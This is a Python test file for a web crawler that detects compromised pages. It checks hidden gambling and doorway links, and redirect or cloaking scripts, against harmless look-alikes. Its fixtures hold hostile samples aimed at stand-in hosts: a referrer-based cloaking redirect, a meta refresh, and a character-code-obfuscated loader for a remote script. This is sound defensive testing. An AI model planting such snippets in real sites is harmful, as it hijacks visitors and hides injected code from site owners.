"""`hidden_link` and `redirect_or_cloak`: what makes an alarm, and the ordinary things that look alike."""

from __future__ import annotations

import pytest

from crawler.detect import detect
from crawler.detect.sites import leads_away, site_of
from crawler.model import Severity
from tests.crawler.detect.cases import HIDING, case_of, of_kind, page

CASINO = '<a href="http://bet365.example.top/">澳门新葡京娱乐场</a> <a href="http://x.example.top/">真人百家乐</a>'


def codes(script: str) -> str:
    return ",".join(str(ord(character)) for character in script)


@pytest.mark.parametrize("around", HIDING[:8])
def test_hidden_casino_links_are_an_alarm(around: str) -> None:
    """Hidden, off-site, and about gambling, in every way of hiding that has elements in it."""
    case = case_of(page(inside=around.format(CASINO)))
    found = of_kind(detect(case), "hidden_link")
    assert [finding.severity for finding in found] == [Severity.HIGH]
    assert found[0].evidence["hosts"] == ["bet365.example.top", "x.example.top"]
    assert case.document.text[found[0].start : found[0].end] == found[0].quote


@pytest.mark.parametrize(
    "innocent",
    [
        '<div style="display:none"><a href="http://www.cnzz.com/stat.php?id=1">站长统计</a></div>',
        '<div style="display:none"><a href="http://www.gov.cn/">政府网</a><a href="http://zj.gov.cn/">省政府</a></div>',
        '<ul style="display:none"><li><a href="/zwgk/">政务公开</a></li></ul>',
        '<div style="display:none"><a href="https://weibo.com/x">微博</a><a href="https://mp.weixin.qq.com/">微信</a></div>',
    ],
)
def test_counters_menus_and_partners_are_no_alarm(innocent: str) -> None:
    """Most ordinary pages hide links to other sites."""
    assert [finding for finding in detect(case_of(page(after=innocent))) if finding.severity.rank > 0] == []


@pytest.mark.parametrize("tag", ["u", "em", "form", "div"])
def test_one_hidden_link_to_a_doorway_is_an_alarm(tag: str) -> None:
    """Innocent words, but the bare host behind them has nothing except those words in its address."""
    link = '<a href="http://shop.example.com/?quiet_harbour">Quiet Harbour buy</a>'
    found = of_kind(
        detect(case_of(page(inside=f'<p>a <{tag} style="display:none">{link}</{tag}> b</p>'))), "hidden_link"
    )
    assert [finding.severity for finding in found] == [Severity.HIGH]
    assert found[0].evidence["doorways"] is True


REDIRECTS = {
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example.top/">',
    "search visitors are sent away": (
        '<script>if(/baidu|google/.test(document.referrer)){location.href="http://evil.example.top/"}</script>'
    ),
    "a script that only leaves": '<script>window.location.href="http://evil.example.top/";</script>',
    "a script written as numbers": (
        f"<script>document.write(String.fromCharCode({codes('<script src=//evil.top/a.js></script>')}))</script>"
    ),
}


@pytest.mark.parametrize("how", REDIRECTS)
def test_sending_the_reader_elsewhere_is_an_alarm(how: str) -> None:
    case = case_of(page(head=REDIRECTS[how]))
    (found,) = of_kind(detect(case), "redirect_or_cloak")
    assert found.severity is Severity.HIGH
    assert found.evidence["how"] == how
    assert case.document.text[found.start : found.end] == found.quote


@pytest.mark.parametrize("opening", ["<script>", "<SCRIPT>", '<script src="a.js"></SCRIPT><script>'])
@pytest.mark.parametrize("closing", ["</script>", "</SCRIPT>", ""])
def test_a_script_is_one_however_its_tags_are_written(opening: str, closing: str) -> None:
    case = case_of(page() + f'{opening}location.href="http://evil.example.top/"{closing}')
    (found,) = of_kind(detect(case), "redirect_or_cloak")
    assert found.quote == 'location.href="http://evil.example.top/"'


def test_what_stands_between_scripts_sends_nobody_anywhere() -> None:
    example = '<script>a()</script><p>location.href="http://evil.example.top/"</p><SCRIPT>b()</SCRIPT>'
    assert not of_kind(detect(case_of(page(inside=example))), "redirect_or_cloak")


@pytest.mark.parametrize(
    "innocent",
    [
        '<meta http-equiv="refresh" content="300">',
        '<meta http-equiv="refresh" content="0;url=/art/2021/new.html">',
        '<meta http-equiv="refresh" content="0;url=http://www.other.example.gov.cn/">',
        '<noscript><meta http-equiv="refresh" content="0;url=http://old.example.org/"></noscript>',
        '<!--[if lt IE 9]><meta http-equiv="refresh" content="0;url=http://upgrade.example.org/"><![endif]-->',
        f"<script>document.write(String.fromCharCode({codes('<a href=mailto:a@example.gov.cn>mail</a>')}))</script>",
        '<script>var r=document.referrer;new Image().src="http://hm.baidu.com/h.gif?r="+escape(r)</script>',
        "<script>document.write(unescape(\"%3Cscript src='http://s4.cnzz.com/z.js'%3E%3C/script%3E\"))</script>",
        '<script>if(/Android|iPhone/.test(navigator.userAgent)){location.href="http://m.example.gov.cn/"}</script>',
        '<script>function go(){if(confirm("?")){window.location.href="http://www.gov.cn/"}}</script>',
    ],
)
def test_analytics_mail_addresses_and_own_moves_are_no_alarm(innocent: str) -> None:
    assert of_kind(detect(case_of(page(head=innocent))), "redirect_or_cloak") == []


def test_two_addresses_without_names_are_two_sites() -> None:
    """10.0.0.1 and 192.0.0.1 end alike and have nothing in common."""
    assert leads_away("http://192.0.2.7/a", site_of("http://203.0.2.7/"))
    assert not leads_away("http://203.0.2.7/a", site_of("http://203.0.2.7/"))
    assert leads_away("http://[2001:db8::2]/a", site_of("http://[2001:db8::1]/"))
